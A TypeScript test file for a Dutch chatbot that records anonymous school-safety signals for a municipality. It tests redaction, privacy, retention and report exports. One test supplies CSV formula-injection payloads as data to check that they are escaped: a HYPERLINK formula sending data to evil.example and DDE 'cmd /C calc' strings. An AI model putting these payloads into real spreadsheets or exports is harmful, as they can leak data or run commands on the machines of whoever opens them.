import { describe, expect, it } from "vitest";
import { assembleCore } from "../src/app.ts";
import { createMemoryLogger } from "../src/core/logger.ts";
import type { IncomingMessage, Reply } from "../src/core/message.ts";
import { isoWeek, type Signal } from "../src/model/signals.ts";
import { findPersonalData, redact } from "../src/signals/pii.ts";
import { csvCell } from "../src/signals/report.ts";
import { Store } from "../src/storage/store.ts";
import { realEngine, realKnowledge } from "./helpers.ts";

async function setup(now = () => new Date("2026-11-23T10:00:00Z")) {
  const store = await Store.memory();
  const logger = createMemoryLogger();
  const knowledge = realKnowledge();
  const { bot, signals } = assembleCore({
    store,
    knowledge,
    logger,
    engine: realEngine(),
    now: () => now().getTime(),
  });
  let n = 0;
  const say = async (text: string, user = "reporter-1", extra: Partial<IncomingMessage> = {}) =>
    (await bot.handle({
      id: `m${++n}`,
      conversation: { platform: "web", id: `conv-${user}`, kind: "direct" },
      sender: { platform: "web", id: user },
      text,
      addressed: true,
      region: "zoetermeer",
      ...extra,
    })) as Reply;
  const click = async (value: string, user = "reporter-1") =>
    (await bot.click({
      id: `c${++n}`,
      conversation: { platform: "web", id: `conv-${user}`, kind: "direct" },
      sender: { platform: "web", id: user },
      value,
    })) as Reply;
  return { store, logger, bot, say, click, signals };
}

describe("personal-data detector", () => {
  it("finds names, numbers, addresses, plates, birth dates and handles in realistic Dutch text", () => {
    const text =
      "Leerling Ahmed (geboren 02-09-2014) woont Dorpsstraat 14, 2712 AB. Vader belt vanaf 06-12345678, auto XX-99-ZZ, insta @ahmed_010.";
    expect(findPersonalData(text).map((f) => f.kind)).toEqual([
      "naam",
      "geboortedatum",
      "adres",
      "postcode",
      "telefoon",
      "kenteken",
      "handle",
    ]);
    expect(redact("Jan de Vries pest Sara")).toBe("[naam] pest [naam]");
    expect(findPersonalData("Meer vapen bij de bushalte in Seghwaert, groep 8")).toEqual([]);
  });
});

describe("/signaal", () => {
  it("logs a signal from one message when the text says enough, privately, with a code", async () => {
    const { say, store } = await setup();
    const r = await say("/signaal al weken meer vapen bij de bushalte in Seghwaert");
    expect(r.visibility).toBe("ephemeral");
    expect(r.text).toMatch(
      /anoniem vastgelegd .*trend, vapen \/ middelen, Zoetermeer, Seghwaert, week 2026-W48/,
    );
    const code = r.text.match(/code is ([A-Z2-9]{4}-[A-Z2-9]{4})/)?.[1];
    expect(store.data.signals).toEqual([
      {
        id: expect.any(String),
        code,
        kind: "trend",
        theme: "middelen",
        region: "zoetermeer",
        wijk: "seghwaert",
        school: null,
        week: "2026-W48",
        text: "al weken meer vapen bij de bushalte in Seghwaert",
        questions: [],
      },
    ]);
  });

  it("asks for what is missing with buttons, in as few taps as possible", async () => {
    const { say, click, store } = await setup();
    const r1 = await say("/signaal");
    expect(r1.buttons?.map((b) => b.label)).toEqual(["Incident", "Trend", "Ontwikkeling"]);
    const r2 = await click("signaal:kind:incident");
    expect(r2.buttons?.map((b) => b.label)).toContain("Agressie van ouders");
    const r3 = await click("signaal:theme:agressie-ouders");
    expect(r3.buttons?.map((b) => b.label)).toContain("Rokkeveen");
    const r4 = await click("signaal:wijk:rokkeveen");
    expect(r4.text).toMatch(/Beschrijf kort wat er speelt/);
    const r5 = await say("/signaal vader schold de juf uit bij het hek");
    expect(r5.text).toMatch(
      /anoniem vastgelegd voor het signaaloverleg: incident, agressie van ouders, Zoetermeer, Rokkeveen/,
    );
    expect(store.data.signals[0]).toMatchObject({
      kind: "incident",
      theme: "agressie-ouders",
      wijk: "rokkeveen",
    });
  });

  it("never keeps personal data: it shows what it found and stores only the redacted version", async () => {
    const { say, click, store, logger } = await setup();
    const r = await say("/signaal Leerling Ahmed wordt gepest door Jan de Vries, bel 06-12345678");
    expect(r.text).toMatch(
      /mogelijk persoonsgegevens \(naam, telefoon\): "Ahmed", "Jan de Vries", "06-12345678"/,
    );
    expect(r.text).toContain('"Leerling [naam] wordt gepest door [naam], bel [telefoonnummer]"');
    expect(store.data.signals).toEqual([]);
    const r2 = await click("signaal:confirm");
    expect(r2.buttons?.map((b) => b.value)).toContain("signaal:kind:incident");
    await click("signaal:kind:incident");
    await click("signaal:wijk:-");
    const json = JSON.stringify(store.data);
    expect(store.data.signals[0]?.text).toBe(
      "Leerling [naam] wordt gepest door [naam], bel [telefoonnummer]",
    );
    for (const secret of ["Ahmed", "Jan de Vries", "06-12345678"]) {
      expect(json).not.toContain(secret);
      expect(JSON.stringify(logger.lines)).not.toContain(secret);
    }
  });

  it("asks the reporter to check the redacted text and lets them send a corrected one before saving", async () => {
    const { say, click, store } = await setup();
    const r = await say("/signaal Vader van Yusuf schold de juf uit bij het hek, hij woont Dorpsstraat 4");
    expect(r.text).toMatch(/staan er nog namen, telefoonnummers, adressen/);
    expect(r.buttons?.map((b) => b.label)).toEqual(["Bewaar deze versie", "Aanpassen", "Annuleren"]);
    const r2 = await click("signaal:edit");
    expect(r2.text).toMatch(/Stuur je melding opnieuw met \/signaal/);
    expect(store.data.signals).toEqual([]);
    const r3 = await say("/signaal een vader schold de juf uit bij het hek");
    expect(r3.buttons?.map((b) => b.value)).toContain("signaal:kind:incident");
    await click("signaal:kind:incident");
    await click("signaal:theme:agressie-ouders");
    await click("signaal:wijk:-");
    expect(JSON.stringify(store.data)).not.toMatch(/Yusuf|Dorpsstraat|\[naam\]/);
    expect(store.data.signals[0]).toMatchObject({
      kind: "incident",
      theme: "agressie-ouders",
      text: "een vader schold de juf uit bij het hek",
    });
  });

  it("answers acute danger with 112, the police contact and Veilig Thuis before anything else", async () => {
    const { say } = await setup();
    const r = await say("/signaal een jongen heeft nu een mes bij zich op het plein van de Triangel");
    const lines = r.text.split("\n");
    expect(lines[0]).toBe("Is er nu gevaar? Bel 112.");
    expect(r.text).toContain("Veilig Thuis, 0800-2000");
    expect(r.text).toContain("Politiecontact: Demo Wijkagent");
    const home = await say("/signaal kind zegt dat het thuis geslagen wordt");
    expect(home.text.split("\n")[0]).toBe("Is er nu gevaar? Bel 112.");
  });

  it("keeps no trace of the reporter: no user, conversation or message id, no time", async () => {
    const { say, store, logger } = await setup();
    await say("/signaal al weken groepsdruk onder meiden in groep 8 in Oosterheem", "secret-user-42", {
      conversation: { platform: "web", id: "secret-conv-42", kind: "direct" },
    });
    // The random key of the replay hashes is left out: by chance it may hold any two characters.
    const json = JSON.stringify({ ...store.data, keys: undefined });
    expect(store.data.signals).toHaveLength(1);
    for (const secret of ["secret-user-42", "secret-conv-42", "m1"]) expect(json).not.toContain(secret);
    expect(JSON.stringify(logger.lines)).not.toMatch(/secret-user-42|secret-conv-42|groepsdruk onder meiden/);
    expect(json).not.toMatch(/\d{4}-\d{2}-\d{2}T/);
  });

  it("lets the gemeente ask a question against the code, which the reporter then sees and answers", async () => {
    const { say, store } = await setup();
    await store.update((d) => {
      d.people.push({
        id: "gemeente-1",
        name: "Gemeente",
        roles: ["gemeente"],
        region: "zoetermeer",
        accounts: [],
      });
    });
    const logged = await say("/signaal vandaag ruiten ingegooid bij de gymzaal in Palenstein");
    const code = logged.text.match(/code is ([A-Z2-9]{4}-[A-Z2-9]{4})/)?.[1] as string;
    expect((await say(`/signaal vraag ${code} Welke groep was het?`, "reporter-2")).text).toMatch(
      /Dit kan alleen de gemeente|deelnemersoverzicht/,
    );
    expect((await say(`/signaal vraag ${code} Welke groep was het?`, "gemeente-1")).text).toContain(
      `Je vraag staat bij signaal ${code}`,
    );
    expect((await say(`/signaal ${code}`)).text).toContain("- Welke groep was het?");
    expect((await say(`/signaal ${code} oudere jongens, niet van school`)).text).toContain(
      "Je antwoord is bij het signaal bewaard",
    );
    expect(store.data.signals[0]?.questions[0]).toEqual({
      week: "2026-W48",
      question: "Welke groep was het?",
      answer: "oudere jongens, niet van school",
    });
    expect((await say("/signaal ZZZZ-ZZZZ")).text).toContain("Ik ken geen signaal met code ZZZZ-ZZZZ");
  });

  it("refuses to take a signal where the reply cannot be private", async () => {
    const { say, store } = await setup();
    const r = await say("/signaal vapen in groep 8", "u9", {
      conversation: { platform: "teams", id: "group-1", kind: "group" },
      privateReplies: false,
    });
    expect(r.text).toContain("persoonlijke chat");
    expect(store.data.signals).toEqual([]);
  });

  it("handles bad input with a clear message", async () => {
    const { say, click, store } = await setup();
    expect((await say(`/signaal ${"x".repeat(10_000)}`)).text).toContain("te lang (10000 tekens");
    expect((await say("/signaal 🙂🙂🙂")).text).toContain("Beschrijf in woorden");
    const empty = await say("/signaal    ");
    expect(empty.buttons?.map((b) => b.label)).toEqual(["Incident", "Trend", "Ontwikkeling"]);
    await click("signaal:kind:trend");
    await click("signaal:theme:vuurwerk");
    const unknown = await click("signaal:wijk:atlantis");
    expect(unknown.text).toContain("Die wijk ken ik niet in deze regio. In welke wijk?");
    expect(unknown.buttons?.map((b) => b.label)).toContain("Hele gemeente");
    expect(store.data.signals).toEqual([]);
  });

  it("limits how many signals one person logs per hour, without storing who", async () => {
    const { say, store } = await setup();
    for (let i = 0; i < 11; i++)
      await say(`/signaal al weken overlast bij het winkelcentrum in Rokkeveen (${i})`, "busy");
    expect(store.data.signals).toHaveLength(10);
    expect(JSON.stringify(store.data)).not.toContain("busy");
  });
});

describe("for the gemeente", () => {
  const base = { questions: [], region: "zoetermeer", text: "x", kind: "trend" as const };
  const seed = (store: Store, signals: Array<Partial<Signal>>) =>
    store.update((d) => {
      signals.forEach((s, i) => {
        d.signals.push({
          id: `s${i}`,
          code: `AAAA-AAA${i % 10}`,
          theme: "middelen",
          wijk: "seghwaert",
          school: null,
          week: "2026-W47",
          ...base,
          ...s,
        } as Signal);
      });
      d.people.push({
        id: "gem",
        name: "Gemeente",
        roles: ["gemeente"],
        region: "zoetermeer",
        accounts: [],
      });
    });

  it("shows counts by kind, theme, wijk and week; schools with fewer than 3 signals only at wijk level", async () => {
    const { say, store } = await setup();
    await seed(store, [
      { school: "triangel" },
      { school: "triangel" },
      { school: "triangel" },
      { school: "gaerde" },
      { theme: "pesten", wijk: "noordhove", school: "buut", kind: "incident" },
    ]);
    const r = await say("/signaal overzicht 8 weken", "gem");
    expect(r.text).toContain("Per soort: incident 1, trend 4, ontwikkeling 0.");
    expect(r.text).toContain("Per thema: vapen / middelen 4, pesten 1.");
    expect(r.text).toContain("Per wijk: Seghwaert 4, Noordhove 1.");
    expect(r.text).toContain("Per school (alleen scholen met 3 of meer signalen): IKC De Triangel 3.");
    expect(r.text).not.toMatch(/Gaerde|Buut/);
    expect((await say("/signaal overzicht", "nobody")).text).toMatch(/deelnemersoverzicht/);
  });

  it("marks themes that rise above their usual level", async () => {
    const { say, store } = await setup();
    await seed(store, [
      { week: "2026-W46" },
      { week: "2026-W47" },
      { week: "2026-W47" },
      { week: "2026-W48" },
      { week: "2026-W30", theme: "pesten" },
    ]);
    const r = await say("/signaal overzicht 24 weken", "gem");
    expect(r.text).toMatch(/Stijgend: Vapen \/ middelen \(4 in de laatste 4 weken/);
  });

  it("exports Markdown and CSV for the meeting, with the same small-count rule", async () => {
    const { say, store } = await setup();
    await seed(store, [{ school: "gaerde", text: 'vapes "gedeeld" bij het hek' }]);
    const md = (await say("/signaal export", "gem")).text;
    expect(md).toContain(
      '| 2026-W47 | Trend | Vapen / middelen | Seghwaert |  | vapes "gedeeld" bij het hek |',
    );
    const csv = (await say("/signaal export csv", "gem")).text.split("\n");
    expect(csv[0]).toBe("week,soort,thema,regio,wijk,school,signaal");
    expect(csv[1]).toBe(
      '"2026-W47","Trend","Vapen / middelen","Zoetermeer","Seghwaert","","vapes ""gedeeld"" bij het hek"',
    );
  });

  it("neutralises CSV cells that a spreadsheet would run as a formula", async () => {
    const { say, store } = await setup();
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      "+31 6 cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1",
      "\r=1+1",
    ];
    await seed(
      store,
      attacks.map((text) => ({ text })),
    );
    const lines = (await say("/signaal export csv", "gem")).text.split("\n").slice(1);
    const lastCells = [
      `"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`,
      `"'+31 6 cmd|' /C calc'!A0"`,
      `"'-2+3"`,
      `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
      `"'\t=1+1"`,
      `"'\r=1+1"`,
    ];
    expect(lines).toHaveLength(lastCells.length);
    for (const cell of lastCells)
      expect(
        lines.filter((l) => l.endsWith(`,${cell}`)),
        cell,
      ).toHaveLength(1);
    expect(csvCell("vapes bij het hek")).toBe('"vapes bij het hek"');
    expect(csvCell("een - in het midden = gewoon")).toBe('"een - in het midden = gewoon"');
  });

  it("deletes signals after the retention period and logs only the count", async () => {
    const { store, signals, logger } = await setup();
    await seed(store, [{ week: isoWeek(new Date("2024-10-01")), text: "oud signaal" }, { week: "2026-W40" }]);
    expect(await signals.applyRetention()).toBe(1);
    expect(store.data.signals.map((s) => s.week)).toEqual(["2026-W40"]);
    const line = logger.lines.find((l) => l.msg === "signals retention applied");
    expect(line?.fields).toEqual({ deleted: 1 });
    expect(JSON.stringify(logger.lines)).not.toContain("oud signaal");
  });

  it("remembers a /signaal message id only as a keyed hash with its week, until the redelivery window has passed", async () => {
    let at = new Date("2026-03-02T09:00:00Z");
    const { store, signals } = await setup(() => at);
    expect(await signals.firstMessage("whatsapp:wamid.S1")).toBe(true);
    at = new Date("2026-03-13T09:00:00Z");
    expect(await signals.firstMessage("whatsapp:wamid.S1")).toBe(false);
    expect(JSON.stringify(store.data)).not.toContain("wamid.S1");
    expect(Object.values(store.data.seenSignals)).toEqual(["2026-W10"]);
    at = new Date("2026-03-16T09:00:00Z");
    await signals.applyRetention();
    expect(Object.keys(store.data.seenSignals)).toHaveLength(1);
    at = new Date("2026-03-17T09:00:00Z");
    await signals.applyRetention();
    expect(store.data.seenSignals).toEqual({});
  });
});
